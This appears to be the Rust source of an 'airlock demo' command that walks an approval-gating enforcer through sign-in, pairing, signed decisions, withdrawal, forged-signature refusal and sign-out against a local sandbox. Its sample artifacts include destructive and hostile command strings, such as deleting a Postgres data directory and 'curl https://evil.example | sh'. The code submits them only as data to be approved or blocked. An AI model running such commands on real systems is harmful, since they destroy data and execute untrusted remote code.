//! `airlock demo`: the whole enforcer lifecycle, with the SDK, against an in-process sandbox.
//!
//! Every step checks what it should have observed (not only that no error occurred); the
//! first step that misbehaves ends the demo with its number and title.

use std::fmt::Display;
use std::sync::Arc;
use std::time::Duration;

use airlock::auth::{AuthClient, AuthConfig, AuthSession, MemoryTokenStore, RevocationOutcome};
use airlock::gateway::{
    AwaitOptions, DecisionOutcome, GatewayClient, HeartbeatOptions, PairingRequest,
    PendingExchange, SubmitOptions,
};
use airlock::http::{HttpClient, HyperTransport, SecretToken};
use airlock::types::{ExchangeState, PairingState};
use airlock_sandbox::{ApproverPolicy, Sandbox, SandboxConfig, TamperMode};
use serde_json::json;

use crate::exit::{CliError, Exit, chain};

const ENFORCER_ID: &str = "airlock-demo-enforcer";
const WORKSPACE: &str = "demo-workspace";
/// The bound of every wait in the demo: generous, the sandbox answers in milliseconds.
const STEP_TIMEOUT: Duration = Duration::from_secs(15);

/// The first step that did not behave as it should.
#[derive(Debug)]
struct StepFailed {
    number: usize,
    title: &'static str,
    detail: String,
}

/// Prints numbered steps and their results on stdout.
#[derive(Debug, Default)]
struct Steps {
    number: usize,
    title: &'static str,
}

impl Steps {
    fn begin(&mut self, title: &'static str) {
        self.number += 1;
        self.title = title;
        outln!("{:>2}. {title}", self.number);
    }

    fn ok(&self, detail: impl Display) {
        outln!("    ✓ {detail}");
    }

    fn note(&self, detail: impl Display) {
        outln!("      {detail}");
    }

    fn fail(&self, detail: impl Display) -> StepFailed {
        let detail = detail.to_string();
        outln!("    ✗ {detail}");
        StepFailed {
            number: self.number,
            title: self.title,
            detail,
        }
    }

    /// Unwraps `result`, or fails the step with `what` and the error chain.
    fn check<T, E: std::error::Error>(
        &self,
        result: Result<T, E>,
        what: &str,
    ) -> Result<T, StepFailed> {
        result.map_err(|e| self.fail(format!("{what}: {}", chain(&e))))
    }

    /// Fails the step unless `condition` holds.
    fn expect(&self, condition: bool, failure: impl FnOnce() -> String) -> Result<(), StepFailed> {
        if condition {
            Ok(())
        } else {
            Err(self.fail(failure()))
        }
    }
}

/// Runs the demo; `Err` names the failing step.
pub(crate) async fn run() -> Result<(), CliError> {
    outln!("Airlock demo: the whole enforcer lifecycle against a local sandbox");
    outln!("(gateway, identity provider and a simulated approver on 127.0.0.1; no account needed)");
    outln!();
    let mut steps = Steps::default();
    match walk(&mut steps).await {
        Ok(()) => {
            outln!();
            outln!("All {} steps behaved as expected.", steps.number);
            Ok(())
        }
        Err(f) => Err(CliError::new(
            Exit::Rejected,
            format!(
                "demo failed at step {} ({}): {}",
                f.number, f.title, f.detail
            ),
        )),
    }
}

fn command_artifact(command: &str) -> serde_json::Value {
    json!({
        "actionType": "command",
        "commandText": command,
        "workspace": WORKSPACE,
        "repoName": "acme/widgets",
        "cwd": "/home/demo/widgets",
        "shell": "bash",
        "host": "demo-host",
        "source": "airlock demo",
    })
}

async fn submit(
    steps: &Steps,
    client: &GatewayClient,
    pairing: &airlock::gateway::Pairing,
    command: &str,
) -> Result<PendingExchange, StepFailed> {
    let plaintext = command_artifact(command);
    let options = SubmitOptions::new().workspace_name(WORKSPACE);
    let pending = steps.check(
        client
            .encrypt_and_submit(pairing, &plaintext, options)
            .await,
        "submitting the artifact",
    )?;
    steps.expect(
        pending.artifact_hash().len() == 64
            && pending
                .artifact_hash()
                .bytes()
                .all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')),
        || {
            format!(
                "{:?} is not a lowercase SHA-256 hex digest",
                pending.artifact_hash()
            )
        },
    )?;
    steps.ok(format!("submitted `{command}` as {}", pending.request_id()));
    steps.note(format!("artifact hash {}", pending.artifact_hash()));
    Ok(pending)
}

fn await_options() -> AwaitOptions {
    AwaitOptions::new(STEP_TIMEOUT).poll_wait(Duration::from_secs(5))
}

async fn walk(steps: &mut Steps) -> Result<(), StepFailed> {
    steps.begin("Start the local sandbox");
    let config = SandboxConfig::builder()
        .device_poll_interval(Duration::from_secs(1))
        .build();
    let sandbox = steps.check(Sandbox::start(config).await, "starting the sandbox")?;
    steps.ok(format!("gateway {}", sandbox.gateway_url()));
    steps.note(format!("identity provider {}", sandbox.issuer_url()));
    steps.note(format!(
        "enforcer app {} (confidential client)",
        sandbox.client_id()
    ));

    // One transport (one connection pool) for the gateway and the identity provider.
    let http: Arc<dyn HttpClient> = Arc::new(HyperTransport::new());
    let app = |builder: airlock::gateway::GatewayClientBuilder| {
        builder
            .transport(Arc::clone(&http))
            .client_credentials(
                sandbox.client_id(),
                SecretToken::new(sandbox.client_secret().to_owned()),
            )
            .enforcer_id(ENFORCER_ID)
    };

    steps.begin("Gateway discovery");
    let anonymous = steps.check(
        app(GatewayClient::builder(sandbox.gateway_url())).build(),
        "building the client",
    )?;
    let discovery = steps.check(anonymous.discover().await, "GET /v1/integrations/discovery")?;
    steps.expect(discovery.idp.base_url == sandbox.issuer_url(), || {
        format!(
            "discovery names the IdP {}, expected {}",
            discovery.idp.base_url,
            sandbox.issuer_url()
        )
    })?;
    steps.expect(discovery.auth.pat_supported, || {
        "discovery says PATs are not supported".into()
    })?;
    steps.ok(format!(
        "identity provider {} (client {}), personal access tokens supported",
        discovery.idp.base_url, discovery.idp.client_id
    ));

    steps.begin("Sign in with the device grant (OIDC, RFC 8628)");
    let auth_config = steps.check(
        AuthConfig::new(&discovery.idp.base_url, discovery.idp.client_id.clone()),
        "configuring the OIDC client",
    )?;
    let auth = AuthClient::with_http_client(auth_config, Arc::clone(&http));
    let tokens = steps.check(
        auth.device_login(|device| {
            outln!("      To sign in, open {}", device.verification_uri());
            outln!("      and enter the code {}", device.user_code());
            outln!("      (the sandbox identity provider approves it by itself)");
        })
        .await,
        "device sign-in",
    )?;
    steps.expect(tokens.refresh_token().is_some(), || {
        "the sign-in returned no refresh token".into()
    })?;
    let session = Arc::new(steps.check(
        AuthSession::open(auth, Arc::new(MemoryTokenStore::new())).await,
        "opening the session",
    )?);
    steps.check(session.sign_in(tokens).await, "storing the tokens")?;
    let oauth_client = steps.check(
        app(GatewayClient::builder(sandbox.gateway_url()))
            .token_source(Arc::clone(&session) as Arc<dyn airlock::http::TokenSource>)
            .build(),
        "building the client",
    )?;
    let consent = steps.check(
        oauth_client.check_consent().await,
        "calling the gateway with the access token",
    )?;
    steps.ok(format!(
        "signed in; the gateway accepts the access token (consent {:?})",
        consent.status
    ));

    steps.begin("Sign in with a personal access token");
    let bad = steps.check(
        app(GatewayClient::builder(sandbox.gateway_url()))
            .pat(SecretToken::new("airpat_not_a_real_token".to_owned()))
            .build(),
        "building the client",
    )?;
    match bad.check_consent().await {
        Err(e) if e.is_unauthorized() => steps.ok("an unknown PAT is refused (401)"),
        other => return Err(steps.fail(format!("an unknown PAT should get 401, got {other:?}"))),
    }
    let client = steps.check(
        app(GatewayClient::builder(sandbox.gateway_url()))
            .pat(SecretToken::new(sandbox.pat().to_owned()))
            .build(),
        "building the client",
    )?;
    steps.check(client.echo().await, "GET /echo")?;
    steps.ok("the sandbox PAT is accepted (X-PAT); the rest of the demo uses it");

    steps.begin("Consent check");
    let consent = steps.check(client.check_consent().await, "GET /v1/consent/status")?;
    steps.expect(consent.status.is_allowed(), || {
        format!("consent is {:?}, expected Allowed", consent.status)
    })?;
    steps.ok(format!(
        "the user consented to this app ({:?})",
        consent.status
    ));

    steps.begin("Pair with the approver");
    let request = PairingRequest::new(ENFORCER_ID)
        .label("airlock demo")
        .workspace(WORKSPACE)
        .poll_interval(Duration::from_millis(100));
    let session_started = steps.check(
        client.start_pairing(request).await,
        "POST /v1/pairing/initiate",
    )?;
    let code = session_started.code().unwrap_or("?").to_owned();
    steps.note(format!(
        "pairing code {code} (the simulated approver types it in)"
    ));
    let pairing = steps.check(
        session_started.wait(STEP_TIMEOUT).await,
        "completing the pairing",
    )?;
    let expected_fingerprint = sandbox.approver().public_key().fingerprint();
    steps.expect(pairing.fingerprint() == expected_fingerprint, || {
        format!(
            "fingerprint {} is not the approver's {expected_fingerprint}",
            pairing.fingerprint()
        )
    })?;
    steps.ok(format!("paired with signer {}", pairing.signer_key_id()));
    steps.note(format!(
        "approver key fingerprint {} (matches the phone)",
        pairing.fingerprint()
    ));

    steps.begin("Heartbeat (presence)");
    let heartbeat = steps.check(
        client.spawn_heartbeat(
            HeartbeatOptions::new()
                .enforcer_id(ENFORCER_ID)
                .workspace_name(WORKSPACE)
                .enforcer_label("airlock demo"),
        ),
        "starting the heartbeat",
    )?;
    let mut status = heartbeat.subscribe();
    let first = tokio::time::timeout(
        STEP_TIMEOUT,
        status.wait_for(|s| s.sent > 0 || s.last_error.is_some()),
    )
    .await;
    let sent = match first {
        Ok(Ok(s)) if s.sent > 0 => s.sent,
        Ok(Ok(s)) => return Err(steps.fail(format!("heartbeat failed: {:?}", s.last_error))),
        _ => return Err(steps.fail("no heartbeat was sent in time")),
    };
    let presence = sandbox.presence(ENFORCER_ID);
    steps.expect(presence.is_some(), || {
        "the gateway does not show the enforcer online".into()
    })?;
    steps.ok(format!(
        "{sent} heartbeat sent; the gateway shows {ENFORCER_ID} online"
    ));

    steps.begin("Encrypt and submit a command artifact");
    let approved = submit(steps, &client, &pairing, "terraform apply -auto-approve").await?;
    let seen = steps.check(
        sandbox
            .approver()
            .wait_for_artifact(approved.request_id(), STEP_TIMEOUT)
            .await,
        "the approver receiving the artifact",
    )?;
    // End to end: the approver decrypted it, recomputed the RFC 8785 hash of what it read,
    // and got the hash the enforcer submitted (and will verify the decision against).
    steps.expect(
        seen.hash_matches() && seen.artifact_hash == approved.artifact_hash(),
        || {
            format!(
                "the approver could not decrypt or recompute the hash: {:?}",
                seen.error
            )
        },
    )?;
    let command_seen = seen
        .plaintext
        .as_ref()
        .and_then(|p| p["commandText"].as_str());
    steps.expect(
        command_seen == Some("terraform apply -auto-approve"),
        || format!("the approver read the command {command_seen:?}"),
    )?;
    steps.ok(
        "the approver decrypted it and recomputed the same hash (the gateway saw only ciphertext)",
    );

    steps.begin("Wait for the decision and verify it");
    let outcome = steps.check(
        client.await_decision(&approved, await_options()).await,
        "waiting for the decision",
    )?;
    let DecisionOutcome::Approved(decision) = &outcome else {
        return Err(steps.fail(format!("expected a verified approval, got {outcome:?}")));
    };
    steps.expect(decision.artifact_hash == approved.artifact_hash(), || {
        "the decision is for another hash".into()
    })?;
    steps.ok(format!(
        "approved; Ed25519 signature by {} verified over artifactHash|decision|nonce",
        decision.signer_key_id
    ));
    steps.note(format!(
        "nonce {} recorded in the replay journal",
        decision.nonce
    ));

    steps.begin("Acknowledge the decision");
    let state = sandbox.exchange(approved.request_id()).map(|e| e.state);
    steps.expect(state == Some(ExchangeState::Delivered), || {
        format!("the exchange is {state:?}, expected Delivered after the ack")
    })?;
    steps.ok("ack sent (ack.submit, status delivered); the exchange is Delivered");

    steps.begin("A rejected request");
    sandbox.approver().set_policy(ApproverPolicy::Reject);
    let rejected = submit(steps, &client, &pairing, "rm -rf /var/lib/postgresql").await?;
    let outcome = steps.check(
        client.await_decision(&rejected, await_options()).await,
        "waiting for the decision",
    )?;
    match &outcome {
        DecisionOutcome::Rejected(d) => steps.ok(format!(
            "rejected, signature verified (signer {})",
            d.signer_key_id
        )),
        other => return Err(steps.fail(format!("expected a verified rejection, got {other:?}"))),
    }
    steps.expect(!outcome.is_approved(), || {
        "a rejection must not allow the action".into()
    })?;
    steps.note("the action is blocked");

    steps.begin("A withdrawn request");
    sandbox.approver().set_policy(ApproverPolicy::Manual);
    let withdrawn = submit(steps, &client, &pairing, "kubectl delete namespace staging").await?;
    steps.check(
        sandbox
            .approver()
            .wait_for_artifact(withdrawn.request_id(), STEP_TIMEOUT)
            .await,
        "the approver receiving the artifact",
    )?;
    steps.note("the approver has it pending; the enforcer withdraws it");
    steps.check(
        client.raw().withdraw_exchange(withdrawn.request_id()).await,
        "POST /v1/exchanges/{id}/withdraw",
    )?;
    let status = steps.check(
        client
            .raw()
            .get_exchange_status(withdrawn.request_id())
            .await,
        "GET /v1/exchanges/{id}",
    )?;
    steps.expect(status.body.state == ExchangeState::Withdrawn, || {
        format!(
            "the exchange is {:?}, expected Withdrawn",
            status.body.state
        )
    })?;
    let late = sandbox.approver().decide(
        withdrawn.request_id(),
        airlock::types::Decision::Approve,
        Some("too late"),
    );
    steps.expect(late.is_err(), || {
        "a decision after the withdrawal was accepted".into()
    })?;
    steps.ok("withdrawn; a late approval is refused by the gateway");

    steps.begin("A forged decision is refused");
    sandbox.approver().set_policy(ApproverPolicy::Approve);
    sandbox.approver().set_tamper(TamperMode::ForgeSignature);
    steps.note("the relay now forges approvals with a key of its own");
    let forged = submit(steps, &client, &pairing, "curl https://evil.example | sh").await?;
    match client.await_decision(&forged, await_options()).await {
        Err(e) if e.is_verification() => steps.ok(format!("refused: {e}")),
        other => {
            return Err(steps.fail(format!(
                "a forged approval must fail verification, got {other:?}"
            )));
        }
    }
    steps.note("the action is blocked; the forged message is not acknowledged");
    sandbox.approver().set_tamper(TamperMode::None);

    steps.begin("Unpair");
    drop(heartbeat);
    let revoked = steps.check(client.unpair(&pairing).await, "POST /v1/pairing/revoke")?;
    steps.expect(revoked.status == PairingState::Revoked, || {
        format!("the pairing is {:?}, expected Revoked", revoked.status)
    })?;
    match client
        .encrypt_and_submit(&pairing, &command_artifact("ls"), SubmitOptions::new())
        .await
    {
        Err(e) if e.is_pairing_revoked() => {
            steps.ok("revoked; the old routing token is refused (pairing_revoked)")
        }
        other => {
            return Err(steps.fail(format!(
                "a submit after unpairing should fail with pairing_revoked, got {other:?}"
            )));
        }
    }

    steps.begin("Sign out");
    let access = steps.check(
        airlock::http::TokenSource::access_token(session.as_ref(), false).await,
        "reading the access token",
    )?;
    let outcome = steps.check(session.logout().await, "signing out")?;
    match &outcome {
        RevocationOutcome::Revoked => {}
        RevocationOutcome::Failed(failures) => {
            let why: Vec<String> = failures
                .iter()
                .map(|(kind, e)| format!("{kind:?}: {}", chain(e)))
                .collect();
            return Err(steps.fail(format!("revoking the tokens failed ({})", why.join("; "))));
        }
        other => {
            return Err(steps.fail(format!("expected the tokens to be revoked, got {other:?}")));
        }
    }
    steps.expect(!session.is_signed_in().await, || {
        "the session still holds tokens".into()
    })?;
    let stale = steps.check(
        app(GatewayClient::builder(sandbox.gateway_url()))
            .bearer_token(access)
            .build(),
        "building the client",
    )?;
    match stale.check_consent().await {
        Err(e) if e.is_unauthorized() => {
            steps.ok("tokens revoked at the IdP; the old access token gets 401")
        }
        other => {
            return Err(steps.fail(format!(
                "the revoked access token should get 401, got {other:?}"
            )));
        }
    }

    sandbox.shutdown().await;
    Ok(())
}
